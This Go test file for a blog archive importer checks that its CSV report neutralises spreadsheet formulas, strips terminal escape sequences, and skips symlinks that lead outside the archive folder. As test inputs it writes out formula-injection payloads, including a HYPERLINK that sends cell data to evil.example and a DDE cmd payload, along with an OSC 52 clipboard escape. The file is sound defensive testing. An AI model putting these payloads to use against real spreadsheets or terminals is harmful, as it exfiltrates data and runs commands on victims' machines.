package transfer_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"pullquote/internal/blog"
	"pullquote/internal/transfer"
)

func TestWhatAnArchiveSaysIsNoOrderInAReport(t *testing.T) {
	titles := map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1)`: `'=HYPERLINK("https://evil.example/?"&A1)`, `+cmd|' /C calc'!A0`: `'+cmd|' /C calc'!A0`, "@SUM(1)": "'@SUM(1)",
		"-30-": "-30-", "@heron said": "@heron said", "A title (=)": "A title (=)",
	}
	a := newArchive(t, nil)
	for title := range titles {
		a.write(t, strings.Trim(strings.Map(func(r rune) rune {
			if r < 'A' {
				return -1
			}
			return r
		}, title), "|")+"x\x1b]52;c;eA==\a.md", post("'"+strings.ReplaceAll(title, "'", "''")+"'", "2012-11-21", ""))
	}
	var report bytes.Buffer
	if _, err := a.importer().Import(t.Context(), transfer.Options{Report: &report, BatchOptions: blog.BatchOptions{Paths: []string{a.dir}}}); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(report.String(), "\x1b\a") {
		t.Errorf("the report gives orders to a terminal: %q", &report)
	}
	rows, err := csv.NewReader(&report).ReadAll()
	if err != nil || len(rows) != 1+len(titles) {
		t.Fatalf("%d lines, %v", len(rows), err)
	}
	said := map[string]bool{}
	for _, row := range rows[1:] {
		said[row[3]] = true
	}
	for title, want := range titles {
		if !said[want] {
			t.Errorf("%q is not said as %q: %v", title, want, said)
		}
	}
}

func TestALinkInAFolderLeadsToNoFileOutside(t *testing.T) {
	a := newArchive(t, map[string]string{
		"secret.md": post("Secret", "2012-11-21", ""), "private.png": picture,
		"site/a.md": post("Heron", "2012-11-21", "") + "![](b.png)\n", "site/real.md": post("Stork", "2012-11-22", ""),
	})
	for name, target := range map[string]string{"b.md": "../secret.md", "b.png": "../private.png", "c.md": "real.md"} {
		if err := os.Symlink(target, filepath.Join(a.dir, "site", name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("site", filepath.Join(a.dir, "alias")); err != nil {
		t.Fatal(err)
	}
	_, lines := a.bring(t, transfer.Options{}, "alias")
	outside := "It is a link to a file outside the folder, which an archive may not bring in. Name that file to bring it in."
	want := []string{"alias/a.md new /links/a/: Pictures that did not come along: /b.png (not in the archive).", "alias/b.md skipped: " + outside, "alias/b.png skipped: " + outside, "alias/c.md new /links/c/", "alias/real.md new /links/real/"}
	if diff := cmp.Diff(want, lines); diff != "" {
		t.Errorf("the report (-want +got):\n%s", diff)
	}
}
